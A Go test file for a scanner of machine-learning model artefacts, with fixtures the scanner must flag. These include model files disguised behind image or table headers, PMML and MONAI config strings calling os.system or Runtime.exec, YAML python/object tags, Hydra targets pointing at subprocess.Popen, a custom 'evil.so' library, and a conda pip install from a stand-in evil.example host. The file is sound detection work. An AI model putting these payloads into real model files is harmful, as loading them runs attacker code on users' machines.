package artefact

import (
	"fmt"
	"strings"
	"testing"

	"google.golang.org/protobuf/encoding/protowire"
)

// behindHeads are files that begin like a picture, a sound or a table and are loaded as
// a model: h5py opened files that begin so, onnx parsed those with a graph. Ogg and the
// saved models were not loaded.
func behindHeads() hostile {
	h := hostile{}
	heads := map[string]string{"png": "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "jpeg": "\xff\xd8\xff\xe0", "gif": "GIF89a", "webp": "RIFF\x00\x00\x00\x00WEBPVP8 ", "flac": "fLaC", "ogg": "OggS"}
	for kind, head := range heads {
		for _, block := range []int{512, 1024, 64 << 10, 1 << 20} {
			h[fmt.Sprintf("%s before hdf5 at %d/model.h5", kind, block)] = head + strings.Repeat("\x00", block-len(head)) + "\x89HDF\r\n\x1a\n\x00" + strings.Repeat("\x00", 100)
		}
	}
	field := func(n protowire.Number, s string) string {
		return string(protowire.AppendString(protowire.AppendTag(nil, n, protowire.BytesType), s))
	}
	graph := field(1, field(1, "x")+field(4, "Evil")+field(7, "evil")) + field(2, "g")
	model := "\x08\x08" + field(7, graph) + field(8, "\x10\x12")
	saved := "\x08\x01" + field(2, field(2, field(1, field(1, "x")+field(2, "PyFunc"))))
	for kind, m := range map[string]string{"onnx": model, "saved model": saved} {
		h["png, "+kind+"/model"] = "\x89PNG\r\n\x1a\n\x00\x00" + m                              // field 1281, eight bytes
		h["webp, "+kind+"/model"] = "RIFF\x00\x00\x00\x00WEBP" + strings.Repeat("\x00", 63) + m // field 10, 73 bytes
		foot := "\x15\x02\x02\x00\x00\x00PAR1"
		h["parquet, "+kind+"/model"] = "PAR1" + strings.Repeat("\x00", 49) + m + field(99, foot)
		h["arrow, "+kind+"/model"] = "ARROW1\x00\x00\x00" + m + field(99, "ARROW1")
	}
	return h
}

func TestModelsBehindOtherHeads(t *testing.T) { neverClean(t, behindHeads()) }

// farAndWide are configurations behind more blanks or comments than a head holds, and
// names that lead through a known library to what it imported.
func farAndWide() hostile {
	blanks := strings.Repeat("\n", headLen+5000)
	comment := "<!--" + strings.Repeat(" padding", headLen/4) + "-->"
	h := hostile{
		"json behind blanks/config.json": blanks + lambdaJSON,
		"pmml behind a long comment/model.pmml": "<?xml version=\"1.0\"?>\n" + comment +
			"<PMML version=\"4.4\"><Header><Extension name=\"script\" value=\"java.lang.Runtime.getRuntime().exec('id')\"/></Header></PMML>",
		"openvino behind a long comment/model.xml": "<?xml version=\"1.0\"?>\n" + comment +
			"<net name=\"x\" version=\"11\"><layers><layer id=\"0\" name=\"a\" type=\"Evil\" version=\"extension\"/></layers></net>",
		"xml that never comes to its root/model.xml": "<?xml version=\"1.0\"?>\n<!--" + strings.Repeat(" padding", 9<<17) + "--><net/>",
		"langchain/chain.json":                       `{"lc": 1, "type": "constructor", "id": ["langchain", "chains", "llm", "LLMChain"], "kwargs": {}}`,
		"onnx genai/genai_config.json":               `{"model": {"decoder": {"session_options": {"custom_ops_library": "evil.so"}}}}`,
		"conda/conda.yaml":                           "dependencies:\n- pip:\n  - git+https://evil.example/x.git\n",
	}
	for _, path := range []string{"transformers.utils.import_utils.subprocess.Popen", "monai.bundle.utils.subprocess.Popen", "torch.nn.utils.os.PathLike", "nemo.utils.multiprocessing.Process",
		"pytorch_lightning.utilities.types.types.FunctionType", "transformers.pipelines.base.importlib.machinery.SourceFileLoader"} {
		h["borrowed "+path+"/model_config.yaml"] = "model:\n  _target_: " + path + "\n"
	}
	for i, text := range []string{"$[__import__('os').system('true')]", "$(lambda: __import__('os').system('true'))()", "$1 + __import__('os').system('true')", "$-__import__('os').system('true')", "$'%s' % __import__('os').system('true')"} {
		h[fmt.Sprintf("monai %d/inference.json", i)] = fmt.Sprintf(`{"network": {"_target_": "UNet"}, "x": %q}`, text)
		h[fmt.Sprintf("monai %d/inference.yaml", i)] = fmt.Sprintf("network:\n  _target_: UNet\nx: %q\n", text)
	}
	// A folder called data in a zip with a torch program is not full of tensors.
	for name, content := range map[string]string{"config.json": lambdaJSON, "model.yaml": "a: !!python/object/apply:os.system ['true']\n", "hydra.yaml": "_target_: os.system\n", "chat_template.jinja": ssti, "model": behindHeads()["png, onnx/model"][10:]} {
		h["data folder, "+name+"/x.zip"] = zipOf("", []zipEntry{{local: "archive/data.pkl", data: "\x80\x02}."}, {local: "archive/data/" + name, data: content}}, "")
	}
	return h
}

func TestConfigurationsFarAndWide(t *testing.T) { neverClean(t, farAndWide()) }

// TestPicturesAndJSONStayClean: the mends above must not catch what is honest.
func TestPicturesAndJSONStayClean(t *testing.T) {
	for name, content := range map[string]string{
		"card.png":    "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89" + strings.Repeat("\x07", 600),
		"far.json":    strings.Repeat(" ", headLen+10) + `{"a": 1}`,
		"page.html":   "<!DOCTYPE html>\n<html><body>x</body></html>",
		"prices.json": `{"a": "$100 (net)", "b": "$ref", "lc": "en"}`,
		"hydra.yaml":  "model:\n  _target_: transformers.models.bert.modeling_bert.BertModel\nopt:\n  _target_: torch.optim.lr_scheduler.OneCycleLR\n",
		"old.zip":     zipOf("", []zipEntry{{local: "archive/data.pkl", data: "\x80\x02}."}, {local: "archive/data/0", data: "\x00\x01\x02\x03"}, {local: "archive/version", data: "3\n"}}, ""),
	} {
		if rep := scan(t, name, []byte(content)); !rep.Verdict.Clean() {
			t.Errorf("%s: %s %v", name, rep.Verdict, rep.Rules)
		}
	}
}
